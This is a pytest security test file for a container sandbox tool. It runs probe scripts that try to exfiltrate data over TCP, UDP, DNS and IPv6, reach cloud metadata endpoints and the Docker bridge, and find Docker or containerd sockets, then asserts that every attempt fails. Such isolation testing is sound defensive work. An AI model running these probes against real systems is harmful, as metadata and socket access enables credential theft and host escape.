"""Hostile tasks that try to exfiltrate over the network from a default sandbox (no
--network): TCP, UDP, DNS, IPv6, cloud metadata, the Docker bridge, and the Docker
socket or any other host socket.

Each task reports every attempt as JSON on stdout; the test reads the report from the
run's evidence (stdout.log) and checks summary.json records ``NetworkMode: none`` as
read back from the engine. Error texts differ between runc (ENETUNREACH) and gVisor
(EHOSTUNREACH), so the tests assert that each attempt failed, not how.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.helpers.cli import Aido
from tests.helpers.files import write
from tests.helpers.hostile import assert_ran_isolated, hostile_sandbox
from tests.helpers.sandbox import record, run_dir, sandbox_root, summary

pytestmark = pytest.mark.docker

# Shared by every probe: try() runs one attempt and records its outcome, never raising.
PRELUDE = r"""
import errno, json, os, socket, stat
results = {}
def attempt(name, action):
    try:
        results[name] = {"ok": True, "detail": repr(action())[:200]}
    except Exception as e:  # any failure is a failure to get out
        code = getattr(e, "errno", None)
        results[name] = {"ok": False, "error": type(e).__name__,
                         "errno": errno.errorcode.get(code, code) if isinstance(code, int) else code}
def tcp(host, port, family=socket.AF_INET):
    def connect():
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(5)
            s.connect((host, port))
            return "connected"
    return connect
def interfaces():
    names = [name for _, name in socket.if_nameindex()]
    dev = [l.split(":")[0].strip() for l in open("/proc/net/dev").read().splitlines()[2:] if ":" in l]
    return {"if_nameindex": names, "proc_net_dev": dev}
"""


def run_probe(aido: Aido, project: Path, name: str, body: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """Run PRELUDE + body (which fills ``results``) in a default sandbox; return
    (the task's report, summary.json), after checking the evidence of a network-less run."""
    sandbox_id = hostile_sandbox(aido)
    write(project / name, PRELUDE + body + "\nprint(json.dumps(results))\n")
    result = aido("run", name, "--timeout", "90s", "--json", timeout=120)
    assert result.code == 0, (result.stdout, result.stderr)
    report = json.loads((run_dir(project, sandbox_id) / "stdout.log").read_text())
    run_summary = summary(project, sandbox_id)
    assert run_summary["status"] == "success"
    assert_ran_isolated(run_summary)
    # Evidence: no network asked for, none granted, and the engine says so.
    assert run_summary["security"]["requested"]["network"] is False
    assert run_summary["security"]["applied"]["network_mode"] == "none"
    assert run_summary["escape_hatches"]["network"] is False
    assert run_summary["warnings"] == []
    assert record(project, sandbox_id)["config"]["permissions"]["network"] is False
    return report, run_summary


def connected(report: dict[str, Any]) -> dict[str, Any]:
    return {name: r for name, r in report.items() if r["ok"]}


def test_tcp_to_public_addresses_fails(aido: Aido, project: Path) -> None:
    report, _ = run_probe(
        aido,
        project,
        "tcp.py",
        """
for host, port in [("8.8.8.8", 53), ("1.1.1.1", 443), ("1.1.1.1", 80), ("9.9.9.9", 853)]:
    attempt(f"{host}:{port}", tcp(host, port))
""",
    )
    assert len(report) == 4
    assert connected(report) == {}
    assert all(r["error"] in ("OSError", "TimeoutError") for r in report.values()), report


def test_udp_datagrams_cannot_leave(aido: Aido, project: Path) -> None:
    report, _ = run_probe(
        aido,
        project,
        "udp.py",
        """
def send(host, port):
    def go():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            return s.sendto(b"exfiltrated-secret", (host, port))
    return go
attempt("udp 8.8.8.8:53", send("8.8.8.8", 53))
attempt("udp 1.1.1.1:443", send("1.1.1.1", 443))
attempt("udp broadcast", send("255.255.255.255", 9))
results["interfaces"] = {"ok": False, "seen": interfaces()}
""",
    )
    seen = report.pop("interfaces")["seen"]
    # No interface but loopback: even a datagram the kernel accepted would have nowhere to go.
    assert seen == {"if_nameindex": ["lo"], "proc_net_dev": ["lo"]}
    assert connected(report) == {}


def test_dns_resolution_fails(aido: Aido, project: Path) -> None:
    report, _ = run_probe(
        aido,
        project,
        "dns.py",
        """
import urllib.request
attempt("getaddrinfo example.com", lambda: socket.getaddrinfo("example.com", 80))
attempt("getaddrinfo x.evil.tld", lambda: socket.getaddrinfo("x.evil.tld", 443))
attempt("gethostbyname", lambda: socket.gethostbyname("www.google.com"))
attempt("urlopen", lambda: urllib.request.urlopen("http://example.com", timeout=5).status)
attempt("urlopen https", lambda: urllib.request.urlopen("https://example.com", timeout=5).status)
""",
    )
    assert len(report) == 5
    assert connected(report) == {}
    assert report["getaddrinfo example.com"]["error"] == "gaierror"


def test_ipv6_connect_fails(aido: Aido, project: Path) -> None:
    report, _ = run_probe(
        aido,
        project,
        "ipv6.py",
        """
for host, port in [("2001:4860:4860::8888", 53), ("2606:4700:4700::1111", 443), ("fd00:ec2::254", 80)]:
    attempt(f"[{host}]:{port}", tcp(host, port, socket.AF_INET6))
""",
    )
    assert len(report) == 3
    assert connected(report) == {}


def test_cloud_metadata_and_docker_bridge_are_unreachable(aido: Aido, project: Path) -> None:
    report, _ = run_probe(
        aido,
        project,
        "metadata.py",
        """
import urllib.request
attempt("169.254.169.254:80", tcp("169.254.169.254", 80))
attempt("metadata http", lambda: urllib.request.urlopen(
    "http://169.254.169.254/latest/meta-data/", timeout=5).read())
attempt("gcp metadata", lambda: urllib.request.urlopen(
    "http://metadata.google.internal/computeMetadata/v1/", timeout=5).read())
attempt("100.100.100.200:80", tcp("100.100.100.200", 80))
# The default Docker bridge gateway: the host itself, and a dockerd listening on TCP.
for port in (2375, 2376, 22, 80):
    attempt(f"172.17.0.1:{port}", tcp("172.17.0.1", port))
""",
    )
    assert len(report) == 8
    assert connected(report) == {}


def test_no_docker_socket_or_other_host_socket_is_visible(aido: Aido, project: Path) -> None:
    report, run_summary = run_probe(
        aido,
        project,
        "sockets.py",
        """
known = ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
         "/var/run/containerd/containerd.sock", "/run/docker/containerd/containerd.sock",
         "/run/podman/podman.sock", "/run/user/0/docker.sock"]
results["present"] = {"ok": False, "paths": [p for p in known if os.path.lexists(p)]}
# find / -type s, skipping the kernel's pseudo filesystems.
found = []
for root, dirs, files in os.walk("/", onerror=lambda e: None):
    if root == "/":
        dirs[:] = [d for d in dirs if d not in ("proc", "sys")]
    for name in dirs + files:
        path = os.path.join(root, name)
        try:
            if stat.S_ISSOCK(os.lstat(path).st_mode):
                found.append(path)
        except OSError:
            pass
results["sockets"] = {"ok": False, "paths": found}
# Unix sockets of this network namespace (abstract ones included, e.g. containerd-shim's).
results["proc_net_unix"] = {"ok": False, "lines": open("/proc/net/unix").read().splitlines()[1:]}
def shim():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.connect("\\0/containerd-shim/moby/shim.sock")
attempt("abstract containerd-shim socket", shim)
""",
    )
    assert report.pop("present")["paths"] == []
    assert report.pop("sockets")["paths"] == []
    assert report.pop("proc_net_unix")["lines"] == []
    assert connected(report) == {}
    # The evidence agrees: nothing but the sandbox's own directories is mounted.
    root = str(sandbox_root(project, run_summary["sandbox_id"]).resolve())
    applied_sources = [m["source"] for m in run_summary["security"]["applied"]["mounts"]]
    assert all(s.startswith(root + "/") for s in applied_sources), applied_sources
    assert {m["target"] for m in run_summary["security"]["applied"]["mounts"]} == {
        "/inputs",
        "/work",
        "/outputs",
        "/work/sockets.py",
    }
